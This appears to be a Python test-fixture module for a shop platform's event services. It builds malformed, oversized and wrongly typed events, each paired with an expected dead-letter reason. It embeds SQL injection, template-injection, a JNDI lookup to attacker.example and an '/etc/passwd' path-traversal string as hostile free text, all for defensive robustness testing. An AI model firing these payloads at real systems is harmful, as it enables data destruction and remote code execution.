@@ -1,0 +1,523 @@
+"""A corpus of bad inputs for every topic the services read, and valid events that carry
+hostile free text.
+
+`corpus(run, at)` returns `BadInput`s: malformed, truncated, non-object and non-UTF-8 values,
+oversized and deeply nested ones, duplicate keys, NaN, wrong types (string / float amounts,
+booleans as integers and the reverse), missing attributes and fields, unknown types, naive
+timestamps, negative and absurd amounts, a payments mismatch, and contract errors of the
+services' own topics (an unknown or path-like notification template, a refund whose breakdown
+does not add up). Each carries the dead-letter `reason` every service that reads its topic must
+give, and a key of its own (`bad-<run>-NN-<name>`, also its `order_id` / `customer_id`), so
+anything it causes can be found.
+
+The injection strings (SQL, Jinja / template, JNDI) go into free-text fields of otherwise valid
+events (`order_paid`, `complaint_opened`, `return_reviewed`, `survey_answered`, ...): they must
+be processed normally and kept or shown verbatim, never evaluated.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from dataclasses import dataclass
+from datetime import datetime, timedelta
+from typing import Any
+
+from shared.contracts import topics
+
+SQL_INJECTION = "'; DROP TABLE returns.inbox; --"
+SQL_INJECTION_2 = "Robert'); DROP TABLE notifier.contacts; --"
+# Evaluated, these would become 4011, XXX, 49 or a JNDI lookup: none may ever appear.
+TEMPLATE_INJECTIONS = (
+    "{{ 1337*3 }}",
+    "{% for x in range(3) %}X{% endfor %}",
+    "{{ 7*7 }}",
+    "${jndi:ldap://attacker.example/a}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "#{7*7} <%= 7*7 %> ${7*7}",
+)
+EVALUATED_MARKERS = ("4011", "XXX", "<class '")
+HOSTILE_TEXT = " | ".join((*TEMPLATE_INJECTIONS, SQL_INJECTION))
+
+H = timedelta(hours=1)
+D = timedelta(days=1)
+
+
+@dataclass(frozen=True)
+class BadInput:
+    name: str
+    topic: str
+    key: str
+    value: bytes | None
+    reason: str  # the dead-letter reason of every service reading `topic`
+
+
+# --- valid events ------------------------------------------------------------------------------
+
+
+def event(type_: str, data: dict[str, Any], at: datetime, *, id: str) -> dict[str, Any]:
+    return {
+        "specversion": "1.0",
+        "id": id,
+        "source": "/shop-platform/bad-input-corpus",
+        "type": type_,
+        "time": at.isoformat(),
+        "datacontenttype": "application/json",
+        "data": data,
+    }
+
+
+def encode(value: dict[str, Any] | list[Any]) -> bytes:
+    return json.dumps(value, ensure_ascii=False).encode("utf-8")
+
+
+def order_paid(
+    order_id: str,
+    customer_id: str,
+    *,
+    at: datetime,
+    titles: Sequence[str] = ("毛衣",),
+    category: str = "apparel",
+    paid: int = 5000,
+    name: str = "李雷",
+    channel: str = "webhook",
+) -> dict[str, Any]:
+    lines = [
+        {
+            "line_id": f"L{i}",
+            "sku": f"SKU-{i}",
+            "title": title,
+            "category": category,
+            "quantity": 1,
+            "paid_amount": paid,
+        }
+        for i, title in enumerate(titles, start=1)
+    ]
+    total = paid * len(lines)
+    return event(
+        "order.paid",
+        {
+            "order_id": order_id,
+            "shop_id": "S-corpus",
+            "customer_id": customer_id,
+            "paid_at": at.isoformat(),
+            "currency": "CNY",
+            "lines": lines,
+            "shipping_fee_paid": 0,
+            "standard_shipping_fee": 1000,
+            "free_shipping_threshold": None,
+            "shipping_insurance": False,
+            "presale_ship_by": None,
+            "payments": [{"method": "alipay", "amount": total}],
+            "customer": {
+                "name": name,
+                "phone": "13900001111",
+                "email": "corpus.buyer@example.com",
+                "preferred_channel": channel,
+            },
+        },
+        at,
+        id=f"{order_id}-paid",
+    )
+
+
+def order_shipped(order_id: str, *, at: datetime) -> dict[str, Any]:
+    return event(
+        "order.shipped",
+        {"order_id": order_id, "shipped_at": at.isoformat(), "carrier": "SF", "tracking_no": "SF1"},
+        at,
+        id=f"{order_id}-shipped",
+    )
+
+
+def parcel_signed(
+    order_id: str, *, at: datetime, return_id: str | None = None, id: str | None = None
+) -> dict[str, Any]:
+    data: dict[str, Any] = {
+        "order_id": order_id,
+        "leg": "return" if return_id else "outbound",
+        "tracking_no": "YT1" if return_id else "SF1",
+        "signed_at": at.isoformat(),
+    }
+    if return_id:
+        data["return_id"] = return_id
+    leg = data["leg"]
+    return event("parcel.signed", data, at, id=id or f"{order_id}-{leg}-signed")
+
+
+def return_requested(
+    order_id: str,
+    return_id: str,
+    customer_id: str,
+    *,
+    at: datetime,
+    reason: str = "no_reason",
+    evidence: Sequence[str] = (),
+) -> dict[str, Any]:
+    return event(
+        "return.requested",
+        {
+            "return_id": return_id,
+            "order_id": order_id,
+            "customer_id": customer_id,
+            "kind": "refund",
+            "reason": reason,
+            "lines": [{"line_id": "L1", "quantity": 1}],
+            "condition": [],
+            "evidence_urls": list(evidence),
+            "requested_at": at.isoformat(),
+        },
+        at,
+        id=f"{return_id}-requested",
+    )
+
+
+def return_reviewed(order_id: str, return_id: str, *, at: datetime, note: str) -> dict[str, Any]:
+    return event(
+        "return.reviewed",
+        {
+            "return_id": return_id,
+            "order_id": order_id,
+            "decision": "approve",
+            "agent_id": "agent-corpus",
+            "note": note,
+            "reviewed_at": at.isoformat(),
+        },
+        at,
+        id=f"{return_id}-reviewed",
+    )
+
+
+def return_shipped(order_id: str, return_id: str, *, at: datetime, fee: int) -> dict[str, Any]:
+    return event(
+        "return.shipped",
+        {
+            "return_id": return_id,
+            "order_id": order_id,
+            "carrier": "YTO",
+            "tracking_no": "YT1",
+            "shipped_at": at.isoformat(),
+            "shipping_fee_paid": fee,
+        },
+        at,
+        id=f"{return_id}-shipped",
+    )
+
+
+def complaint_opened(
+    order_id: str, complaint_id: str, customer_id: str, *, at: datetime, description: str
+) -> dict[str, Any]:
+    return event(
+        "complaint.opened",
+        {
+            "complaint_id": complaint_id,
+            "order_id": order_id,
+            "customer_id": customer_id,
+            "category": "service_attitude",
+            "description": description,
+            "opened_at": at.isoformat(),
+        },
+        at,
+        id=f"{order_id}-complaint-opened",
+    )
+
+
+def complaint_resolved(order_id: str, complaint_id: str, *, at: datetime) -> dict[str, Any]:
+    return event(
+        "complaint.resolved",
+        {
+            "complaint_id": complaint_id,
+            "order_id": order_id,
+            "outcome": "upheld",
+            "remedy": "none",
+            "agent_id": "agent-corpus",
+            "resolved_at": at.isoformat(),
+        },
+        at,
+        id=f"{order_id}-complaint-resolved",
+    )
+
+
+def survey_answered(
+    callback_id: str, customer_id: str, *, at: datetime, comment: str
+) -> dict[str, Any]:
+    return event(
+        "survey.answered",
+        {
+            "callback_id": callback_id,
+            "customer_id": customer_id,
+            "score": 4,
+            "comment": comment,
+            "answered_at": at.isoformat(),
+        },
+        at,
+        id=f"{callback_id}-answered",
+    )
+
+
+def notification_requested(
+    request_id: str, customer_id: str, order_id: str, *, at: datetime, template: str, params: Any
+) -> dict[str, Any]:
+    return event(
+        "notification.requested",
+        {
+            "request_id": request_id,
+            "customer_id": customer_id,
+            "order_id": order_id,
+            "template": template,
+            "params": params,
+            "urgent": True,  # at any hour, outside any daily cap
+        },
+        at,
+        id=f"{request_id}-requested",
+    )
+
+
+# --- the corpus --------------------------------------------------------------------------------
+
+
+def corpus(run: str, at: datetime) -> list[BadInput]:
+    """Every bad input, each with its own key; `at` is the instant events claim."""
+    items: list[BadInput] = []
+
+    def key(name: str) -> str:
+        return f"bad-{run}-{len(items):02d}-{name}"
+
+    def add(name: str, topic: str, value: bytes | None, reason: str, k: str) -> None:
+        items.append(BadInput(name, topic, k, value, reason))
+
+    def paid(name: str) -> tuple[str, dict[str, Any]]:
+        k = key(name)
+        return k, order_paid(k, k, at=at - 2 * D, titles=("毛衣",))
+
+    def bad_order(name: str, reason: str, change: Any) -> None:
+        k, value = paid(name)
+        change(value)
+        add(name, topics.ORDERS, encode(value), reason, k)
+
+    def data_of(value: dict[str, Any]) -> dict[str, Any]:
+        return value["data"]  # type: ignore[no-any-return]
+
+    # Not an event at all.
+    k = key("empty")
+    add("empty", topics.ORDERS, b"", "empty", k)
+    k = key("tombstone")
+    add("tombstone", topics.ORDERS, None, "empty", k)
+    k = key("malformed")
+    add(
+        "malformed",
+        topics.ORDERS,
+        b'{"specversion": "1.0", "id": "x" "type": }',
+        "malformed_json",
+        k,
+    )
+    k, value = paid("truncated")
+    raw = encode(value)
+    add("truncated", topics.ORDERS, raw[: len(raw) // 2], "malformed_json", k)
+    for name, text in (
+        ("array", b'[{"specversion": "1.0", "type": "order.paid"}]'),
+        ("string", b'"order.paid"'),
+        ("number", b"12"),
+        ("null", b"null"),
+        ("bool", b"true"),
+    ):
+        k = key(f"not-object-{name}")
+        add(f"not-object-{name}", topics.ORDERS, text, "not_an_object", k)
+    k, value = paid("invalid-utf8")
+    raw = encode(value).replace("毛衣".encode(), b"\xff\xfe\xfd")
+    add("invalid-utf8", topics.ORDERS, raw, "invalid_utf8", k)
+    k, value = paid("oversized")
+    data_of(value)["lines"][0]["title"] = "大" * (100 * 1024)  # 300 KiB of UTF-8
+    add("oversized", topics.ORDERS, encode(value), "oversized", k)
+    k, value = paid("duplicate-keys")
+    raw = encode(value).replace(b'"shop_id":', b'"order_id": "someone-else", "shop_id":', 1)
+    add("duplicate-keys", topics.ORDERS, raw, "malformed_json", k)
+    k, value = paid("deep-nesting")
+    raw = encode(value).replace(
+        b'"shop_id":', b'"x": ' + b"[" * 50_000 + b"]" * 50_000 + b', "shop_id":', 1
+    )
+    add("deep-nesting", topics.ORDERS, raw, "malformed_json", k)
+    k, value = paid("nan")
+    raw = encode(value).replace(b'"paid_amount": 5000', b'"paid_amount": NaN', 1)
+    add("nan", topics.ORDERS, raw, "malformed_json", k)
+
+    # Broken envelopes.
+    bad_order("missing-source", "missing_attribute", lambda v: v.pop("source"))
+    bad_order("missing-data", "missing_attribute", lambda v: v.pop("data"))
+    bad_order("specversion", "unsupported_specversion", lambda v: v.update(specversion="0.3"))
+    bad_order("unknown-type", "unknown_type", lambda v: v.update(type="order.exploded"))
+    bad_order("type-template", "unknown_type", lambda v: v.update(type="{{ 1337*3 }}"))
+    bad_order("long-id", "invalid_attribute", lambda v: v.update(id="i" * 129))
+    bad_order("numeric-id", "invalid_attribute", lambda v: v.update(id=12345))
+    bad_order("naive-time", "naive_timestamp", lambda v: v.update(time="2026-03-02T10:00:00"))
+    bad_order("data-string", "invalid_data", lambda v: v.update(data="order"))
+
+    # Broken data of order.paid.
+    def line(v: dict[str, Any]) -> dict[str, Any]:
+        return data_of(v)["lines"][0]  # type: ignore[no-any-return]
+
+    bad_order("string-amount", "invalid_data", lambda v: line(v).update(paid_amount="5000"))
+    bad_order("float-amount", "invalid_data", lambda v: line(v).update(paid_amount=5000.0))
+    bad_order("bool-quantity", "invalid_data", lambda v: line(v).update(quantity=True))
+    bad_order("int-bool", "invalid_data", lambda v: data_of(v).update(shipping_insurance=1))
+    bad_order("missing-customer-id", "invalid_data", lambda v: data_of(v).pop("customer_id"))
+    bad_order("no-lines", "invalid_data", lambda v: data_of(v).update(lines=[]))
+    bad_order(
+        "naive-paid-at",
+        "naive_timestamp",
+        lambda v: data_of(v).update(paid_at="2026-03-01T09:00:00"),
+    )
+    bad_order("date-only", "invalid_data", lambda v: data_of(v).update(paid_at="2026-03-01"))
+    bad_order("negative", "negative_amount", lambda v: data_of(v).update(shipping_fee_paid=-1))
+
+    def absurd(v: dict[str, Any]) -> None:
+        line(v)["paid_amount"] = 10**13
+        data_of(v)["payments"][0]["amount"] = 10**13
+
+    bad_order("absurd", "absurd_amount", absurd)
+    bad_order(
+        "payments-mismatch",
+        "payments_mismatch",
+        lambda v: data_of(v)["payments"].append({"method": "card", "amount": 1}),
+    )
+    bad_order("gift-not-free", "invalid_data", lambda v: line(v).update(is_gift=True))
+    bad_order("currency-template", "invalid_data", lambda v: data_of(v).update(currency="{{7*7}}"))
+
+    # The other topics the platform writes.
+    k = key("return-naive")
+    value = return_requested(k, f"{k}-r", k, at=at)
+    data_of(value)["requested_at"] = "2026-03-02T09:00:00"
+    add("return-naive", topics.RETURNS, encode(value), "naive_timestamp", k)
+    k = key("return-reason")
+    value = return_requested(k, f"{k}-r", k, at=at, reason="{{ 1337*3 }}")
+    add("return-reason", topics.RETURNS, encode(value), "invalid_data", k)
+    k = key("return-duplicate-lines")
+    value = return_requested(k, f"{k}-r", k, at=at)
+    data_of(value)["lines"] *= 2
+    add("return-duplicate-lines", topics.RETURNS, encode(value), "invalid_data", k)
+    k = key("shipped-negative")
+    value = return_shipped(k, f"{k}-r", at=at, fee=-100)
+    add("shipped-negative", topics.RETURNS, encode(value), "negative_amount", k)
+    k = key("shipped-float")
+    raw = encode(return_shipped(k, f"{k}-r", at=at, fee=1)).replace(
+        b'"shipping_fee_paid": 1', b'"shipping_fee_paid": 12.5'
+    )
+    add("shipped-float", topics.RETURNS, raw, "invalid_data", k)
+    k = key("signed-no-return")
+    value = parcel_signed(k, at=at)
+    data_of(value)["leg"] = "return"
+    add("signed-no-return", topics.SIGNATURES, encode(value), "invalid_data", k)
+    k = key("signed-leg")
+    value = parcel_signed(k, at=at)
+    data_of(value)["leg"] = "'; DROP TABLE returns.inbox; --"
+    add("signed-leg", topics.SIGNATURES, encode(value), "invalid_data", k)
+    k = key("complaint-category")
+    value = complaint_opened(k, f"{k}-c", k, at=at, description="x")
+    data_of(value)["category"] = "{{ 1337*3 }}"
+    add("complaint-category", topics.COMPLAINTS, encode(value), "invalid_data", k)
+    k = key("complaint-truncated")
+    raw = encode(complaint_opened(k, f"{k}-c", k, at=at, description="x"))
+    add("complaint-truncated", topics.COMPLAINTS, raw[:-20], "malformed_json", k)
+    k = key("survey-score")
+    value = survey_answered(f"{k}-cb", k, at=at, comment="x")
+    data_of(value)["score"] = 6
+    add("survey-score", topics.SURVEYS, encode(value), "invalid_data", k)
+    k = key("survey-string-score")
+    value = survey_answered(f"{k}-cb", k, at=at, comment="x")
+    data_of(value)["score"] = "5"
+    add("survey-string-score", topics.SURVEYS, encode(value), "invalid_data", k)
+
+    # The services' own topics, read by another service.
+    def notification(name: str, template: str, params: Any, reason: str) -> None:
+        k = key(name)
+        value = notification_requested(f"{k}-n", k, k, at=at, template=template, params=params)
+        add(name, topics.NOTIFICATIONS, encode(value), reason, k)
+
+    notification("template-injection", "{{ 1337*3 }}", {}, "unknown_template")
+    notification("template-path", "../../../etc/passwd", {}, "unknown_template")
+    notification("template-unknown", "complaint.teleported", {}, "unknown_template")
+    notification("template-missing-param", "complaint.escalated", {}, "template_error")
+    notification("params-nested", "complaint.escalated", {"complaint_id": {"a": 1}}, "invalid_data")
+    k = key("refund-breakdown")
+    value = event(
+        "refund.issued",
+        {
+            "refund_id": f"{k}-rf",
+            "order_id": k,
+            "customer_id": k,
+            "case": {"type": "return", "id": f"{k}-r"},
+            "amount": 1000,
+            "currency": "CNY",
+            "breakdown": [{"kind": "goods", "amount": 999}],
+            "payments": [{"method": "alipay", "amount": 1000}],
+            "return_shipping_payer": "buyer",
+            "due_by": (at + D).isoformat(),
+            "issued_at": at.isoformat(),
+        },
+        at,
+        id=f"{k}-evt",
+    )
+    add("refund-breakdown", topics.REFUNDS, encode(value), "invalid_data", k)
+    k = key("decision-empty-message")
+    value = event(
+        "return.rejected",
+        {
+            "return_id": f"{k}-r",
+            "order_id": k,
+            "customer_id": k,
+            "kind": "refund",
+            "rule": "window_expired",
+            "message": "",
+            "decided_at": at.isoformat(),
+        },
+        at,
+        id=f"{k}-evt",
+    )
+    add("decision-empty-message", topics.RETURN_DECISIONS, encode(value), "invalid_data", k)
+    k = key("coupon-negative")
+    value = event(
+        "coupon.granted",
+        {
+            "coupon_id": f"{k}-cp",
+            "customer_id": k,
+            "order_id": k,
+            "complaint_id": f"{k}-c",
+            "value": -500,
+            "currency": "CNY",
+            "expires_at": (at + 30 * D).isoformat(),
+            "reason": "service_attitude",
+            "granted_at": at.isoformat(),
+        },
+        at,
+        id=f"{k}-evt",
+    )
+    add("coupon-negative", topics.COUPONS, encode(value), "negative_amount", k)
+    k = key("reshipment-naive")
+    value = event(
+        "reshipment.requested",
+        {
+            "order_id": k,
+            "customer_id": k,
+            "case": {"type": "return", "id": f"{k}-r"},
+            "lines": [{"line_id": "L1", "quantity": 1}],
+            "due_by": "2026-03-03T10:00:00",
+            "requested_at": at.isoformat(),
+        },
+        at,
+        id=f"{k}-evt",
+    )
+    add("reshipment-naive", topics.FULFILMENT, encode(value), "naive_timestamp", k)
+    k = key("satisfaction-score")
+    value = event(
+        "satisfaction.low",
+        {
+            "callback_id": f"{k}-cb",
+            "customer_id": k,
+            "cases": [{"type": "complaint", "id": f"{k}-c"}],
+            "score": 9,
+        },
+        at,
+        id=f"{k}-evt",
+    )
+    add("satisfaction-score", topics.FOLLOWUPS, encode(value), "invalid_data", k)
+    return items
